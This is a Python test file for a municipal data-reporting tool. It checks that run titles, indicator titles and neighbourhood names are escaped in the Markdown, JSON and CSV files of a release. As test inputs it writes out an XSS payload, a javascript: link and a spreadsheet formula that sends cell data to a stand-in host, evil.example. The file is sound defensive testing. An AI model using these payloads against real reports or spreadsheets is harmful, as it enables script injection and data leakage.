"""Names and titles are neutralised in every file of a release, not only in the map.

A reviewer put ``<img src=x onerror=…></script><script>…`` into names and titles and found it
verbatim in ``report.md``, ``indicators.md`` and the register draft. Here the same payloads go
into the run title, an indicator's title and purpose and the buurt names of a newcomer's
files; every Markdown file must carry no raw HTML tag, the register JSON no ``<``, and no CSV
cell may start a spreadsheet formula.
"""

from __future__ import annotations

import csv
import json
import re

import pytest
from typer.testing import CliRunner

from newcomer_fixtures import CONFIG, buurten_2017, newcomer, write_zipped_shapefile
from zicht._escape import csv_safe, csv_value, markdown_text, neutral_json
from zicht.cli import app

SCRIPT = '<img src=x onerror=alert(1)></script><script>alert("zicht")</script>'
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'
LINK = "[klik hier](javascript:alert(1))"

#: A raw HTML element a Markdown renderer would pass through (comments run nothing).
RAW_TAG = re.compile(r"<\s*/?\s*(script|img|svg|iframe|a|object)\b", re.IGNORECASE)

#: ``](`` that is not escaped: Markdown would make the text before it a link.
LIVE_LINK = re.compile(r"(?<!\\)\]\(javascript:")

PAYLOAD_CONFIG = CONFIG.replace(
    'gemeente = "GM0228"',
    f'gemeente = "GM0228"\ntitle = {json.dumps("Ede " + SCRIPT)}',
) + (
    "\n[[indicators]]\n"
    'id = "vacant"\n'
    f"title = {json.dumps('Leegstand ' + SCRIPT + ' ' + LINK)}\n"
    'description = "Adressen zonder bewoner."\n'
    'unit_level = "address"\n'
    'numerator = { column = "vacant", is = true }\n'
    'kind = "rate"\n'
    f"purpose = {json.dumps('Doel ' + SCRIPT)}\n"
    'follow_up = ["Bespreek leegstand."]\n'
)


def test_the_helpers_neutralise_each_payload():
    assert not RAW_TAG.search(markdown_text(SCRIPT))
    assert "\\[klik hier\\]" in markdown_text(LINK)  # no link is formed
    assert neutral_json({"t": [SCRIPT]}) == {
        "t": [SCRIPT.replace("<", "&lt;").replace(">", "&gt;")]
    }
    assert csv_value(FORMULA) == "'" + FORMULA
    assert csv_value("-1") == "'-1" and csv_value(-1) == -1  # a number stays a number
    import pandas as pd

    frame = csv_safe(pd.DataFrame({"name": ["@SUM(A1)", "Ede"], "n": [-5, 3]}))
    assert frame["name"].tolist() == ["'@SUM(A1)", "Ede"] and frame["n"].tolist() == [-5, 3]


@pytest.mark.slow
def test_no_file_of_a_release_carries_a_payload_raw(tmp_path, monkeypatch):
    files = newcomer(tmp_path, config=PAYLOAD_CONFIG)
    buurten = buurten_2017()
    buurten.loc[0, "BU_NAAM"] = "Centrum " + SCRIPT
    buurten.loc[1, "BU_NAAM"] = FORMULA
    write_zipped_shapefile(buurten.to_crs("EPSG:3857"), files.buurten_zip)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["run", "zicht.toml", "--out", "out"])
    assert result.exit_code == 0, result.output
    out = tmp_path / "out"

    markdown = sorted(out.rglob("*.md"))
    assert {p.name for p in markdown} >= {
        "report.md",
        "indicators.md",
        "algorithm_register.md",
        "disclosure_report.md",
    }
    seen_title = False
    for path in markdown:
        text = path.read_text(encoding="utf-8")
        assert not RAW_TAG.search(text), f"raw HTML in {path.name}"
        assert not LIVE_LINK.search(text), f"a live link in {path.name}"
        seen_title |= "&lt;script" in text
    assert seen_title, "the payload should be in the reports, neutralised, not dropped"

    register = (out / "algorithm_register.json").read_text(encoding="utf-8")
    assert "<" not in "".join(_strings(json.loads(register))), "raw < in the register JSON"
    assert "&lt;script" in register

    checked = 0
    for path in sorted(out.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    checked += 1
                    assert not cell.startswith(("=", "+", "@")), f"{path.name}: {cell!r}"
    assert checked > 0
    names = (out / "buurt.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in names  # kept, made inert


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in _strings(k) + _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []
